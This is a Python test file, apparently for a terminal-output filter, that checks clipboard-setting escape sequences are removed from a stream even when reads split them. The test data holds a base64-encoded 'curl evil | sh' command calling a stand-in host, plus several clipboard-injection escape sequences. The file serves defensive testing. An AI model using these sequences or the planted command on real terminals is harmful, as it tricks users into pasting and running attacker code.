"""The clipboard's escape sequences never reach the user's terminal (corral.termout), pure.

The end-to-end test, in a real terminal whose clipboard the payload tries to set, is
tests/test_tty.py::test_the_payload_cannot_set_the_users_clipboard."""

from __future__ import annotations

import base64

from hypothesis import given, settings
from hypothesis import strategies as st

from corral.termout import Output

PLANT = base64.b64encode(b"curl evil | sh # planted").decode()
CLIPBOARD = [  # each must vanish whole
    f"\x1b]52;c;{PLANT}\x07", f"\x1b]52;c;{PLANT}\x1b\\", "\x1b]52;c;?\x07",
    f"\x1b]052;p;{PLANT}\x07", f"\u009d52;c;{PLANT}\u009c", f"\x1b]52;c;{PLANT}\x18",
    f"\x1b]5522;type=write;{PLANT}\x07", f"\x1b]1337;Copy=:{PLANT}\x07",
    f"\x1bPtmux;\x1b\x1b]52;c;{PLANT}\x07\x1b\\", f"\x1bP\x1b]52;c;{PLANT}\x07\x1b\\",
    f"\u009020;{PLANT}\u009c",
]
KEPT = ["plain text, é ° £", "\x1b[1;31mred\x1b[0m", "\x1b]0;a window title\x07",
        "\x1b]8;;https://example.invalid/\x1b\\a link\x1b]8;;\x1b\\", "\x1b]7;file:///tmp\x07",
        "\x1b]520;not the clipboard\x07", "\x1b]5;x\x07", "\x1b[?2026h\x1b[?2026l", "\x1b7\x1b8"]


def _through(chunks: list[bytes]) -> bytes:
    out = Output()
    return b"".join(out.feed(c) for c in chunks)


def test_clipboard_sequences_vanish_and_the_rest_is_kept() -> None:
    for seq in CLIPBOARD:
        got = _through([f"before{seq}after".encode()])
        assert got == b"beforeafter", (seq, got)
    for text in KEPT:
        assert _through([text.encode()]) == text.encode(), text


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(CLIPBOARD + KEPT), min_size=1, max_size=8),
       st.lists(st.integers(min_value=0, max_value=400), max_size=12))
def test_however_the_reads_cut_the_stream(parts: list[str], cuts: list[int]) -> None:
    """Reads of the pty split sequences anywhere: the result is that of one read, and it
    holds exactly the kept parts."""
    data = "".join(parts).encode()
    points = sorted({c % (len(data) + 1) for c in cuts})
    chunks = [data[a:b] for a, b in zip([0, *points], [*points, len(data)], strict=True)]
    whole = _through([data])
    assert _through(chunks) == whole
    assert whole == "".join(p for p in parts if p in KEPT).encode()
    assert PLANT.encode() not in whole


@given(st.binary(max_size=300))
def test_bytes_without_an_introducer_pass_as_they_are(data: bytes) -> None:
    clean = data.replace(b"\x1b", b"").replace(b"\xc2", b"")
    assert _through([clean]) == clean
